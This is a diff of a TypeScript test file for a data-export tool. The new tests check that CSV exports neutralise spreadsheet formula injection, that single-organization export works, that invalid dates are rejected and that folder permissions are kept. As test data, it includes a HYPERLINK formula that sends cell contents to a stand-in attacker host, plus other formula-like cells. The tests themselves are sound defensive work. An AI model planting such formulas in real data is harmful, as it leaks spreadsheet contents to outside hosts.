@@ -1,7 +1,7 @@
 // `agentmeter export`: two organizations' data over four days, exported for the middle two as Parquet and
 // as CSV, then read back by a separate DuckDB with hive partitioning and compared with the source: counts
 // and sums per organization and day, the range, the layout, plain types, and nothing secret.
-import { existsSync, readdirSync } from 'node:fs';
+import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync } from 'node:fs';
 import { join } from 'node:path';
 import { DuckDBInstance } from '@duckdb/node-api';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -153,5 +153,69 @@ describe('export input errors', () => {
     // Nothing was exported: no table folder got data before the link was found.
     expect(readdirSync(join(out, 'events'))).toEqual([`org_id=${a.orgId}`]);
     expect(existsSync(join(out, 'agg_org_day'))).toBe(false);
+  });
+});
+
+describe('export: CSV cells a spreadsheet would run, one organization, real days, the folder left as it is (issue #20)', () => {
+  const DAY = '2026-03-10';
+  let c: Awaited<ReturnType<TestServer['seedOrg']>>;
+  beforeAll(async () => {
+    c = await server.seedOrg('Gamma');
+    await server.services.ingest.storeRecords(c.orgId as OrgId, c.users.member.id as UserId, [
+      call('=HYPERLINK("http://evil.example/?"&A1)', DAY, { session_id: '@SUM(1+1)', files: [{ ext: 'ts', name: '-x.ts', op: 'edit' }] }),
+      call('+cmd', DAY, { session_id: 'plain' }),
+    ]);
+  });
+  const csvText = (out: string, orgId: string) => {
+    const dir = join(out, 'events', `org_id=${orgId}`, `day=${DAY}`);
+    return readdirSync(dir)
+      .map((f) => readFileSync(join(dir, f), 'utf8'))
+      .join('');
+  };
+
+  it('prefixes formula-like text with an apostrophe, as the dashboard does; --raw-csv keeps it as stored', async () => {
+    const out = join(tempDir(), 'guarded');
+    await exportTables(server.db, { from: DAY, to: DAY, out, format: 'csv', log });
+    const guarded = csvText(out, c.orgId);
+    expect(guarded).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1)"`);
+    expect(guarded).toContain("'@SUM(1+1)");
+    expect(guarded).toContain("'+cmd");
+    expect(guarded).not.toMatch(/(^|,)[=+@-]/m);
+    const raw = join(tempDir(), 'raw');
+    await exportTables(server.db, { from: DAY, to: DAY, out: raw, format: 'csv', rawCsv: true, log });
+    const kept = csvText(raw, c.orgId);
+    expect(kept).toContain('"=HYPERLINK(""http://evil.example/?""&A1)"');
+    expect(kept).toMatch(/(^|,)@SUM\(1\+1\)/m);
+    expect(kept).not.toContain("'");
+  });
+
+  it('--org writes one organization and leaves the others already exported there', async () => {
+    const out = join(tempDir(), 'by-org');
+    await exportTables(server.db, { from: FROM, to: DAY, out, format: 'parquet', log });
+    await exportTables(server.db, { from: FROM, to: DAY, out, format: 'parquet', orgId: c.orgId, log });
+    expect(readdirSync(join(out, 'events')).sort()).toEqual([`org_id=${a.orgId}`, `org_id=${b.orgId}`, `org_id=${c.orgId}`].sort());
+    const only = join(tempDir(), 'only');
+    const result = await exportTables(server.db, { from: FROM, to: DAY, out: only, format: 'parquet', orgId: c.orgId, log });
+    expect(result.find((t) => t.table === 'events')?.rows).toBe(2);
+    expect(result.find((t) => t.table === 'users')?.rows).toBe(4);
+    for (const table of ['events', 'users']) expect(readdirSync(join(only, table))).toEqual([`org_id=${c.orgId}`]);
+    await expect(
+      exportTables(server.db, { from: FROM, to: DAY, out: only, format: 'parquet', orgId: 'org_0000000000000000', log }),
+    ).rejects.toThrow('no organization org_0000000000000000');
+  });
+
+  it('refuses impossible days such as 2026-02-30, and does not change the mode of an existing folder', async () => {
+    const out = join(tempDir(), 'shared');
+    mkdirSync(out);
+    chmodSync(out, 0o755);
+    await expect(exportTables(server.db, { from: '2026-02-30', to: '2026-03-01', out, format: 'csv', log })).rejects.toThrow(
+      'not a real calendar day',
+    );
+    await exportTables(server.db, { from: DAY, to: DAY, out, format: 'csv', log });
+    expect(statSync(out).mode & 0o777).toBe(0o755);
+    expect(statSync(join(out, 'events')).mode & 0o777).toBe(0o700);
+    const fresh = join(tempDir(), 'fresh');
+    await exportTables(server.db, { from: DAY, to: DAY, out: fresh, format: 'csv', log });
+    expect(statSync(fresh).mode & 0o777).toBe(0o700);
   });
 });
